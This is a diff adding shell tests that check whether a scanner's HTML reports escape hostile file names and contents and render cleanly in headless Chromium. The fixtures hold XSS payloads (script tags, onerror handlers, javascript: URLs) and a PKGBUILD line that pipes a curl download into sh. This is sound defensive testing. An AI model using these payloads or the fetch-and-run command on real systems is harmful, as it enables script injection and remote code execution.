@@ -137,3 +137,125 @@ assert uris == ["sub%20dir/a%20b%23c", "tool"], uris
 assert len({r["partialFingerprints"]["prcFindingDigest/v1"] for r in rs}) == 2
 '
 }
+
+# A tree whose names and contents carry script, attribute and URL payloads, each of which reaches the
+# report: a binary's path (PRC-A-CORE-005), a bad manifest's directory (a gap) and PKGBUILD evidence text.
+P_SCRIPT='<script>alert(1)</script>'
+P_ATTR='"><img src=x onerror=alert(2)>'
+P_URL="javascript:alert(3)"
+P_SQ="' onmouseover='alert(4)"
+mk_hostile() {
+        mkdir -p "$1/$P_SCRIPT" "$1/$P_ATTR"
+        cp /bin/true "$1/$P_SCRIPT/$P_URL"
+        cp /bin/true "$1/$P_ATTR/x$P_SQ"
+        printf '{"name": \n' >"$1/$P_SCRIPT/package.json"
+        cat >"$1/PKGBUILD" <<'PKG'
+pkgname=demo
+pkgver=1.0
+pkgrel=1
+arch=(x86_64)
+url="https://github.com/demo/demo"
+license=(MIT)
+source=()
+package() {
+  curl -sL "https://example.org/<script>alert(5)</script>" | sh
+}
+PKG
+}
+
+t_html_escapes_every_byte_from_the_target() {
+        mk_hostile "$TMP/t"
+        "$PRC" scan --target "$TMP/t" --format html >"$TMP/core.html" && fail "exit 0 on a failing tree"
+        "$PRC" scan --target "$TMP/t" --profile prc/aur --format html >"$TMP/aur.html" && fail "exit 0 (aur)"
+        /usr/bin/python3 tests/cli/html_check.py "$TMP/core.html" "$P_SCRIPT/$P_URL" "$P_ATTR/x$P_SQ" \
+                "$P_SCRIPT/package.json" >"$TMP/s1" || fail "core report"
+        /usr/bin/python3 tests/cli/html_check.py "$TMP/aur.html" "<script>alert(5)</script>" >"$TMP/s2" ||
+                fail "aur report"
+        # The one script is the same text whatever the target: nothing from it reaches the script.
+        mk_failing "$TMP/plain"
+        "$PRC" scan --target "$TMP/plain" --format html >"$TMP/plain.html" || true
+        /usr/bin/python3 tests/cli/html_check.py "$TMP/plain.html" >"$TMP/s3" || fail "plain report"
+        cmp -s "$TMP/s1" "$TMP/s3" && cmp -s "$TMP/s2" "$TMP/s3" || fail "the script differs between reports"
+        # The checker is not vacuous: an unescaped payload is caught.
+        sed 's|</footer>|<img src=x onerror=alert(1)></footer>|' "$TMP/plain.html" >"$TMP/bad.html"
+        ! /usr/bin/python3 tests/cli/html_check.py "$TMP/bad.html" >/dev/null 2>&1 || fail "checker missed an <img>"
+}
+
+t_html_shows_summary_assertions_gaps_and_provenance() {
+        mk_failing "$TMP/t"
+        "$PRC" scan --target "$TMP/t" --format json --now 2026-01-02T03:04:05Z >"$TMP/r.json" || true
+        "$PRC" report --format html "$TMP/r.json" >"$TMP/r.html" && fail "exit 0 on a failing result"
+        py "$TMP/r.json" '
+page = open(sys.argv[1].replace("r.json", "r.html")).read()
+class h:
+    def escape(s):
+        return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;").replace(chr(39), "&#39;")
+for k in ("id",):
+    assert d[k] in page
+for v in (d["target"]["inventory_digest"], d["catalog"]["id"], d["catalog"]["sha256"], d["mode"], d["profile"],
+          d["prc_version"], d["content_floor"]["level"], d["now"]):
+    assert h.escape(v) in page, v
+assert "<svg" in page and "<title>assertion states: %d pass, %d fail" % (d["summary"]["pass"], d["summary"]["fail"]) in page
+for a in d["assertions"]:
+    for f in ("id", "title", "state", "severity", "rationale", "remediation", "decision_rule"):
+        assert h.escape(a[f]) in page, (a["id"], f)
+for g in d["coverage_gaps"]:
+    assert h.escape(g["path"]) in page and h.escape(g["class"]) in page
+assert "Adapter executions (0)" in page and "Coverage gaps (%d)" % len(d["coverage_gaps"]) in page
+assert "http://" not in page.replace("http://www.w3.org/2000/svg", "") and "https://" not in page
+'
+        # scan --format html and report --format html of the same result are the same page.
+        "$PRC" scan --target "$TMP/t" --format html --now 2026-01-02T03:04:05Z >"$TMP/s.html" || true
+        cmp -s "$TMP/s.html" "$TMP/r.html" || fail "scan and report pages differ"
+}
+
+CHROMIUM=${PRC_CHROMIUM:-chromium}
+# chrome OUT.(png|html) PAGE: render PAGE with no network at all (a new network namespace), Chromium's
+# own background traffic off; a .png is a screenshot, a .html the DOM after the page's script ran.
+# Console messages (errors, CSP violations, blocked requests) go to $OUT.log.
+chrome() {
+        local mode=--dump-dom
+        case "$1" in *.png) mode=--screenshot="$1" ;; esac
+        unshare -n "$CHROMIUM" --headless=new --no-sandbox --disable-gpu --user-data-dir="$TMP/chrome-profile" \
+                --no-first-run --disable-background-networking --disable-component-update --disable-sync \
+                --disable-default-apps --disable-extensions --host-resolver-rules="MAP * ~NOTFOUND" \
+                --enable-logging=stderr --v=0 --window-size=1200,1800 --hide-scrollbars \
+                $mode "file://$2" >"$1.dom" 2>"$1.log" || fail "chromium exited $?"
+        case "$1" in *.png) ;; *) mv "$1.dom" "$1" ;; esac
+}
+
+have_chromium() {
+        if ! command -v "$CHROMIUM" >/dev/null 2>&1; then
+                echo "    chromium is absent (scripts/setup.sh installs Debian's chromium): not rendered" >&2
+                [ "${CI:-}" = "true" ] && return 1
+                return 2
+        fi
+}
+
+t_html_renders_in_headless_chromium_without_console_errors() {
+        have_chromium || return $(( $? == 2 ? 0 : 1 ))
+        mk_hostile "$TMP/t"
+        "$PRC" scan --target "$TMP/t" --format json >"$TMP/r.json" || true
+        "$PRC" report --format html "$TMP/r.json" >"$TMP/r.html" || true
+        "$PRC" scan --target examples/basic --format html >"$TMP/basic.html" || true
+        for page in r basic; do
+                chrome "$TMP/$page.dom.html" "$TMP/$page.html"
+                chrome "$TMP/$page.png" "$TMP/$page.html"
+                ! grep -h "CONSOLE" "$TMP/$page.dom.html.log" "$TMP/$page.png.log" ||
+                        fail "console messages on $page"
+                [ "$(head -c 8 "$TMP/$page.png" | od -An -tx1 | tr -d ' \n')" = 89504e470d0a1a0a ] ||
+                        fail "no PNG screenshot of $page"
+                [ "$(stat -c %s "$TMP/$page.png")" -gt 20000 ] || fail "a blank screenshot of $page"
+        done
+        # Every assertion ID is shown (its article not hidden), the script ran (the filters are shown),
+        # and no payload became an element: the DOM holds no <img> and no alert handler.
+        py "$TMP/r.json" '
+dom = open(sys.argv[1].replace("r.json", "r.dom.html")).read()
+import re
+assert "<form id=\"filters\">" in dom, "the filter script did not run"
+for a in d["assertions"]:
+    m = re.search(r"<article class=\"assertion[^>]*>\s*<h3>.*?<span class=\"aid\">%s</span>" % re.escape(a["id"]), dom)
+    assert m and " hidden" not in m.group(0), a["id"]
+assert "<img" not in dom and "<script>alert" not in dom
+'
+}
